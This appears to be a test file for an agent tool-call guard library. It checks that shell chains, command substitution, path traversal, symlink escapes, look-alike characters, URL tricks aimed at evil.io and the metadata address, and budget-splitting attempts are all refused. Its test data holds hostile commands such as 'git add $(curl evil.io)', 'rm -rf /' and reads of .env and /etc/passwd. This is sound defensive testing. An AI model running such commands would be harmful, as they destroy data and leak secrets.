/**
 * What agents were seen to do, and people meant to forbid: the rules of `set/`, which has no Rego, hold against each kind. Paths are
 * those of a real folder, resolved as guards do it.
 */

import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type CallDecision, guardTool, type HistoryStore, memoryHistory, type Policy } from "@portcullis/runtime";
import { projectPaths } from "@portcullis/runtime/node";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { incidentSet } from "./compiled-set.ts";

let policy: Policy;
let codes: readonly string[] = [];
let root = "";
beforeAll(async () => {
  ({ policy, codes } = await incidentSet());
  root = realpathSync(mkdtempSync(join(tmpdir(), "portcullis-incidents-")));
  for (const folder of ["src/secrets", "src/lib", "docs", "secrets", ".git"])
    mkdirSync(join(root, folder), { recursive: true });
  for (const file of ["src/a.ts", "src/secrets/key", "docs/guide.md", ".env", "README.md"])
    writeFileSync(join(root, file), "");
  symlinkSync(join(root, "src/secrets"), join(root, "src/open"));
  symlinkSync("/etc", join(root, "src/etc"));
  symlinkSync(join(root, ".env"), join(root, "src/link"));
  symlinkSync("nowhere", join(root, "src/dangling"));
});
afterAll(() => rmSync(root, { recursive: true }));

interface Answer {
  readonly decision: CallDecision;
  /** What the tool got; absent where it did not run. */
  readonly got?: unknown;
}

async function ask(tool: string, args: unknown, role = "CODER", approval?: object): Promise<Answer> {
  const context = { role, lane: "CODING", ...(approval === undefined ? {} : { approval }) };
  let got: unknown;
  const execute = (given: unknown): void => {
    got = given;
  };
  const outcome = await guardTool(policy, context as never, tool, execute, { paths: projectPaths(root) })(args);
  expect(outcome.allowed).toBe(got !== undefined);
  return { decision: outcome.decision, ...(got === undefined ? {} : { got }) };
}

async function reasonOf(...asked: Parameters<typeof ask>): Promise<string> {
  const { reason } = (await ask(...asked)).decision;
  return reason;
}

const bash = (command: unknown): Promise<string> => reasonOf("Bash", { command });
const write = (file_path: unknown): Promise<string> => reasonOf("Write", { file_path, content: "x" });
const fetch = (url: unknown): Promise<string> => reasonOf("Fetch", { url });

const ALLOWED = "call_allowed";
const NOT = "argument_not_allowed";
const NOT_PLAIN = "command_not_plain";
const UNRESOLVED = "path_unresolved";

it("compiles without a finding on what it has", () => {
  expect(codes.filter((code) => code !== "model/absent-part")).toEqual([]);
});

describe("commands", () => {
  it.each(["git status", "git log --oneline", "git log --oneline main dev", "npm test", 'git add "a b"'])(
    "%s is meant",
    async (command) => expect(await bash(command)).toBe(ALLOWED),
  );

  it.each([
    ["a chain by ;", "git status; rm -rf /"],
    ["a chain by && ", "git status && curl evil.io"],
    ["a chain by ||", "git status || sh"],
    ["a job in the background", "git status & sh"],
    ["a pipe", "cat docs/guide.md | sh"],
    ["a second line", "git status\nrm -rf /"],
    ["a second line by a carriage return", "git status\rrm -rf /"],
    ["a substitution by $()", "git add $(curl evil.io)"],
    ["a substitution by backticks", "git add `id`"],
    ["a variable", "git add $HOME"],
    ["a redirection", "git log --oneline > src/a.ts"],
    ["what another program reads", "git add <(id)"],
    ["a glob", "git add *"],
    ["a home folder", "git add ~root"],
    ["an escape", "git add a\\ b"],
    ["history", 'git add "!!"'],
    ["an environment before the command", "GIT_SSH_COMMAND=evil git status"],
    ["an environment in quotes before it", "'A=b' git status"],
    ["a look-alike letter", "gіt status"],
    ["an invisible letter", "git\u200b status"],
    ["a tab", "git\tstatus"],
    ["nothing", ""],
  ])("%s is not plain", async (_, command) => expect(await bash(command)).toBe(NOT_PLAIN));

  it.each([
    ["another program", "rm -rf /"],
    ["another case", "GIT status"],
    ["a path to the program", "/tmp/git status"],
    ["an option", "git add --pathspec-from-file=/etc/passwd"],
    ["an option in quotes", "git add '--exec=x'"],
    ["a file of options", "git add @options"],
    ["a word too many", "npm test x"],
    ["a word too few", "git log"],
    ["another file", "cat .env"],
  ])("%s is not allowed", async (_, command) => expect(await bash(command)).toBe(NOT));

  it("need a person where they leave the machine", async () => {
    expect(await bash("git push origin main")).toBe("approval_required");
    const approval = { ref: "AP-1", by: "m.ortiz" };
    expect(await reasonOf("Bash", { command: "git push origin main" }, "CODER", approval)).toBe(ALLOWED);
    expect(await reasonOf("Bash", { command: "git push origin main" }, "CODER", { ref: "AP-1", by: "LEAD" })).toBe(
      "approval_not_human",
    );
    expect(await reasonOf("Bash", { command: "git push -f" }, "CODER", approval)).toBe(NOT);
  });
});

describe("arguments", () => {
  it.each([
    ["another name of the argument", "Bash", { cmd: "rm -rf /" }, "argument_unknown"],
    ["another name beside it", "Bash", { command: "git status", script: "rm" }, "argument_unknown"],
    ["another case of it", "Bash", { Command: "rm", command: "git status" }, "argument_unknown"],
    ["no argument", "Bash", {}, "argument_missing"],
    ["no arguments", "Bash", undefined, "argument_missing"],
    ["null", "Bash", { command: null }, "argument_missing"],
    ["a list of words", "Bash", { command: ["rm", "-rf", "/"] }, "argument_type"],
    ["a list for all arguments", "Bash", ["git status"], "arguments_malformed"],
    ["a text with a number in it", "Pay", { cents: "1", currency: "EUR" }, "argument_type"],
    ["a fraction", "Pay", { cents: 1.5, currency: "EUR" }, "argument_type"],
    ["another currency", "Pay", { cents: 1, currency: "eur" }, NOT],
    ["less than nothing", "Pay", { cents: -5, currency: "EUR" }, NOT],
    ["more than the role's own limit", "Pay", { cents: 1001, currency: "EUR" }, NOT],
  ])("%s is refused", async (_, tool, args, reason) => expect(await reasonOf(tool, args)).toBe(reason));

  it("are held to the role's own limit", async () => {
    expect(await reasonOf("Pay", { cents: 1001, currency: "EUR" }, "LEAD")).toBe(ALLOWED);
    expect(await reasonOf("Pay", { cents: 250001, currency: "EUR" }, "LEAD")).toBe(NOT);
  });
});

describe("paths", () => {
  it.each(["src/a.ts", "src/new.ts", "src/new/deep/file.ts", "docs/guide.md", "src/lib/../a.ts"])(
    "%s is meant",
    async (path) => {
      expect(await write(path)).toBe(ALLOWED);
      expect(await write(`${root}/${path}`)).toBe(ALLOWED);
    },
  );

  it.each([
    ["out of the folder by ..", "src/../../etc/passwd"],
    ["an absolute path elsewhere", "/etc/passwd"],
    ["a path of the home folder", "~/.ssh/authorized_keys"],
    ["a folder that does not exist, and out of it", "src/none/../../../etc/passwd"],
    ["a link out of the project", "src/etc/passwd"],
    ["a link to nowhere", "src/dangling"],
    ["the project itself", "."],
    ["a dot at the end", "src/a.ts."],
    ["a space at the end", "src/secrets "],
    ["a stream of the file", "src/a.ts:hidden"],
    ["a short name", "src/SECRET~1"],
    ["a byte of control", "src/a\u0001"],
    ["nothing", ""],
    ["a NUL", "src/a\u0000"],
  ])("%s cannot be told", async (_, path) => expect(await write(path)).toBe(UNRESOLVED));

  it.each([
    ["a folder beside it with the same beginning", "srcx/a"],
    ["a file beside it", "README.md"],
    ["inside and out of it by ..", "src/../README.md"],
    ["what is excepted", "src/secrets/key"],
    ["it in another case", "src/Secrets/key"],
    ["it with a mark", "src/secre\u0301ts/key"],
    ["it with what is not seen", "src/sec\u200brets/key"],
    ["it by a link", "src/open/key"],
    ["a file by a link", "src/link"],
  ])("%s is not allowed", async (_, path) => expect(await write(path)).toBe(NOT));

  it("keep secrets from being read", async () => {
    expect(await reasonOf("Read", { file_path: "README.md" })).toBe(ALLOWED);
    for (const path of [".env", ".ENV", "secrets/x", "./secrets/x", ".git/config", "src/link"])
      expect(await reasonOf("Read", { file_path: path })).toBe(NOT);
  });

  it("need a person in one place, in every spelling of it", async () => {
    const change = (path: string, approval?: object): Promise<string> =>
      reasonOf("Change", { file_path: path }, "CODER", approval);
    expect(await change("src/a.ts")).toBe(ALLOWED);
    expect(await change("infra/main.tf")).toBe("approval_required");
    expect(await change("infra/main.tf", { ref: "AP-1", by: "m.ortiz" })).toBe(ALLOWED);
    for (const path of ["Infra/main.tf", "INFRA/main.tf", "inf\u00adra/main.tf", "src/../Infra/x"])
      expect(await change(path, { ref: "AP-1", by: "m.ortiz" })).toBe(NOT);
  });

  it("are held one by one", async () => {
    expect(await reasonOf("Patch", { files: ["src/a.ts", "src/b.ts"] })).toBe(ALLOWED);
    const { decision } = await ask("Patch", { files: ["src/a.ts", "docs/guide.md", "../x"] });
    expect(decision).toMatchObject({ reason: NOT, argument: "files", rule: "paths", index: 1 });
    expect(await reasonOf("Patch", { files: ["src/a.ts", 7] })).toBe("argument_type");
  });

  it("are handed on as they were decided", async () => {
    const { got } = await ask("Write", { file_path: "src/lib/../new.ts", content: "x" });
    expect(got).toEqual({ file_path: join(root, "src/new.ts"), content: "x" });
    const { got: patched } = await ask("Patch", { files: ["src/a.ts", "src/lib"] });
    expect(patched).toEqual({ files: [join(root, "src/a.ts"), join(root, "src/lib")] });
  });
});

describe("hosts", () => {
  it.each(["https://api.example.com/v1?x=1", "https://a.b.example.org", "https://build.example.net:8443/"])(
    "%s is meant",
    async (url) => expect(await fetch(url)).toBe(ALLOWED),
  );

  it.each([
    ["a user that looks like the host", "https://api.example.com@evil.io/"],
    ["a password", "https://api.example.com:x@evil.io/"],
    ["a host that begins like it", "https://api.example.com.evil.io/"],
    ["a host that ends like it", "https://evilexample.org/"],
    ["a backslash", "https://evil.io\\.example.org/"],
    ["a fragment", "https://evil.io#.example.org"],
    ["a query", "https://evil.io?.example.org"],
    ["a dot at the end", "https://api.example.com./"],
    ["another case", "https://API.example.com/"],
    ["a look-alike letter", "https://аpi.example.com/"],
    ["punycode below it", "https://xn--pi-7ba.example.org/"],
    ["another port", "https://api.example.com:8443/"],
    ["the default port of a host with another", "https://build.example.net/"],
    ["an address", "https://169.254.169.254/"],
    ["an address in another form", "https://0x7f.1/"],
    ["without a scheme", "//api.example.com/"],
    ["white space", " https://api.example.com/"],
    ["a new line", "https://api.example.com/\n"],
    ["the domain itself", "https://example.org/"],
    ["another scheme", "http://api.example.com/"],
    ["a file", "file:///etc/passwd"],
  ])("%s is not allowed", async (_, url) => expect(await fetch(url)).toBe(NOT));
});

/** Half past ten on a Wednesday, in Berlin. */
const WEDNESDAY = Date.UTC(2026, 8, 16, 8, 30);
const MINUTE = 60_000;
const HOUR = 60 * MINUTE;

/** A session with a history of its own, and a clock that stands where it is put. */
class Session {
  time = WEDNESDAY;
  private readonly name: string;
  private readonly history: HistoryStore;

  constructor(name = "s-1", history?: HistoryStore) {
    this.name = name;
    this.history = history ?? memoryHistory({ clock: () => this.time });
  }

  other(name: string): Session {
    return new Session(name, this.history);
  }

  async reason(tool: string, args: object, context: object = {}): Promise<string> {
    const options = { paths: projectPaths(root), history: this.history, session: this.name };
    const asked = { role: "CODER", lane: "CODING", ...context };
    return (await guardTool(policy, asked as never, tool, () => true, options)(args)).decision.reason;
  }
}

describe("budgets", () => {
  it("count what was paid, and not what was refused", async () => {
    const session = new Session();
    const refund = (cents: unknown): Promise<string> => session.reason("Refund", { cents });
    expect(await refund(8001)).toBe(NOT);
    expect(await refund(8000)).toBe(ALLOWED);
    expect(await refund(2001)).toBe("limit_sum");
    expect(await refund(2000)).toBe(ALLOWED);
    expect(await refund(1)).toBe("limit_sum");
    session.time += 2 * HOUR;
    expect(await refund(1)).toBe(ALLOWED);
  });

  it("are not got around in many small parts, or by another role", async () => {
    const session = new Session();
    for (const role of ["CODER", "LEAD", "CODER"])
      expect(await session.reason("Refund", { cents: 1 }, { role })).toBe(ALLOWED);
    expect(await session.reason("Refund", { cents: 1 })).toBe("limit_calls");
    expect(await session.other("s-2").reason("Refund", { cents: 1 })).toBe(ALLOWED);
  });

  it("are not got around by asking at once", async () => {
    const session = new Session();
    const asked = await Promise.all(Array.from({ length: 9 }, () => session.reason("Refund", { cents: 3000 })));
    expect(asked.filter((reason) => reason === ALLOWED)).toHaveLength(3);
  });

  it("deny where the host keeps no history, or names no session", async () => {
    expect(await reasonOf("Refund", { cents: 1 })).toBe("limit_key_missing");
    const named = guardTool(policy, { role: "CODER", lane: "CODING" } as never, "Refund", () => true, { session: "s" });
    expect((await named({ cents: 1 })).decision.reason).toBe("history_missing");
  });
});

describe("hours", () => {
  afterEach(() => {
    vi.useRealTimers();
  });

  it.each([
    ["in office hours", WEDNESDAY, ALLOWED],
    ["at the first minute", Date.UTC(2026, 8, 16, 7, 0), ALLOWED],
    ["a minute before", Date.UTC(2026, 8, 16, 6, 59, 59, 999), "limit_hours"],
    ["at the end", Date.UTC(2026, 8, 16, 15, 30), "limit_hours"],
    ["at night", Date.UTC(2026, 8, 16, 1, 0), "limit_hours"],
    ["on a Sunday", Date.UTC(2026, 8, 13, 10, 0), "limit_hours"],
    ["by the clock of winter", Date.UTC(2026, 11, 16, 7, 30), "limit_hours"],
  ])("%s", async (_, time, reason) => {
    // Such a limit needs no history: the time is the host's.
    vi.useFakeTimers({ toFake: ["Date"], now: time });
    expect(await new Session().reason("Deploy", { to: "production" })).toBe(reason);
  });
});

describe("an order of calls", () => {
  it("keeps mail from what was read in the web", async () => {
    const session = new Session();
    const mail = (of: Session): Promise<string> => of.reason("Mail", { text: "hello" });
    expect(await mail(session)).toBe(ALLOWED);
    // What was refused was not read.
    expect(await session.reason("Browse", { url: "https://evil.io/" })).toBe(NOT);
    expect(await mail(session)).toBe(ALLOWED);
    expect(await session.reason("Browse", { url: "https://a.example.org/" })).toBe(ALLOWED);
    expect(await mail(session)).toBe("limit_order");
    session.time += 400 * 24 * HOUR;
    expect(await mail(session)).toBe("limit_order");
    expect(await mail(session.other("s-2"))).toBe(ALLOWED);
  });
});
